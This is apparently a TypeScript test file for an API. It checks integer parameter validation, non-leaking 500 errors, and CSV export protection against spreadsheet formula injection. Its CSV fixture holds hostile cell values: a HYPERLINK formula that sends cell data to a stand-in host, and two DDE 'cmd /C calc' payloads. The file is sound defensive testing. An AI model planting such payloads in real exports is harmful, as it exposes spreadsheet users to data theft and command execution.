/**
 * Issue 13, defects 3, 6 and 8 over the API: numeric query parameters that do not read as numbers
 * get a message naming the parameter and its range; an unexpected failure is a one-line 500 without
 * internals; CSV exports neutralise cells a spreadsheet would run as formulas, and leave numbers be.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { miniRecords } from '../helpers/mini.js';
import { csvObjects } from '../cli/rfc4180.js';
import { LIMITS } from '../../src/server/limits.js';
import { forEachBackend, type Fixture } from './fixture.js';

type ErrorBody = { error: { code: string; message: string } };

forEachBackend(({ miniApp }) => {
  describe('numeric query parameters', () => {
    let f: Fixture;
    before(async () => {
      f = await miniApp();
    });
    after(() => f.close());

    it('limit=1e12 names the parameter and its range, not zod\'s "expected number"', async () => {
      const r = await f.json<ErrorBody>('/api/events?limit=1e12');
      assert.equal(r.status, 400);
      assert.equal(r.body.error.code, 'invalid');
      assert.match(
        r.body.error.message,
        new RegExp(`limit must be an integer between 1 and ${LIMITS.queryInteger} \\(got "1e12"\\)`),
      );
      assert.doesNotMatch(r.body.error.message, /expected|received/);
    });

    it('other numeric parameters say the same: offset, passage offsets, negative and fractional values', async () => {
      for (const [path, name, min] of [
        ['/api/events?offset=-1', 'offset', 0],
        ['/api/events?limit=2.5', 'limit', 1],
        ['/api/events?limit=0', 'limit', 1],
        ['/api/passages?source=mini&start=abc&end=10', 'start', 0],
        ['/api/review?limit=ten', 'limit', 1],
      ] as const) {
        const r = await f.json<ErrorBody>(path);
        assert.equal(r.status, 400, path);
        assert.match(r.body.error.message, new RegExp(`${name} must be an integer between ${min} and \\d+`), path);
        assert.doesNotMatch(r.body.error.message, /expected|received/, path);
      }
    });

    it('a well-formed limit over the page size is still refused as too costly, with the limit', async () => {
      const r = await f.json<ErrorBody>(`/api/events?limit=${LIMITS.pageSize + 1}`);
      assert.equal(r.status, 422);
      assert.match(r.body.error.message, new RegExp(`at most ${LIMITS.pageSize}`));
    });
  });

  describe('unexpected failures', () => {
    it('answer 500 with one line that shows nothing of the inside', async () => {
      const logged: string[] = [];
      const f = await miniApp({ log: (line) => logged.push(line) });
      try {
        // A real failure from below the mapping: the SQLite connection is gone under the server.
        await f.ctx.store.close();
        const r = await f.json<ErrorBody>('/api/events');
        assert.equal(r.status, 500);
        assert.equal(r.body.error.code, 'internal');
        assert.doesNotMatch(r.body.error.message, /\n/);
        assert.doesNotMatch(r.body.error.message, /\bat \S+ \(|sqlite|database|node_modules|\.ts|\.js/i);
        assert.ok(
          logged.some((l) => /\n\s+at /.test(l)),
          "the operator's log keeps the trace",
        );
      } finally {
        await f.close().catch(() => {});
      }
    });
  });

  describe('CSV export over the API', () => {
    let f: Fixture;
    before(async () => {
      const r = miniRecords();
      const events = r.events as Array<{ summary: string }>;
      events[0]!.summary = '=HYPERLINK("http://example.invalid/?x="&A1,"click")';
      events[1]!.summary = "@SUM(1+1)*cmd|' /C calc'!A0";
      events[2]!.summary = "-2+3+cmd|' /C calc'!A0";
      f = await miniApp({}, r);
    });
    after(() => f.close());

    it('prefixes a quote to text cells starting with = + - @ and quotes them; negative numbers stay numbers', async () => {
      const res = await f.get('/api/events?format=csv');
      assert.equal(res.status, 200);
      const text = await res.text();
      const rows = csvObjects(text);
      const byId = Object.fromEntries(rows.map((row) => [row.id, row]));
      assert.equal(byId['border-protocol-2024']!.summary, '\'=HYPERLINK("http://example.invalid/?x="&A1,"click")');
      assert.equal(byId['troop-move-denied-2024']!.summary, "'@SUM(1+1)*cmd|' /C calc'!A0");
      assert.equal(byId['leader-visit-2019']!.summary, "'-2+3+cmd|' /C calc'!A0");
      assert.match(text, /,"'=HYPERLINK\(/, 'the neutralised cell is quoted');
      for (const line of text.split('\r\n').slice(1))
        assert.doesNotMatch(line, /(^|,)[=+@-](?!\d+(\.\d+)?(,|$))/, line);
      const negative = rows.find((row) => Number(row.intensity) < 0);
      assert.ok(negative, 'a hostile event has a negative intensity');
      assert.match(negative.intensity!, /^-\d+(\.\d+)?$/, 'a negative number is written as a number');
    });
  });
});
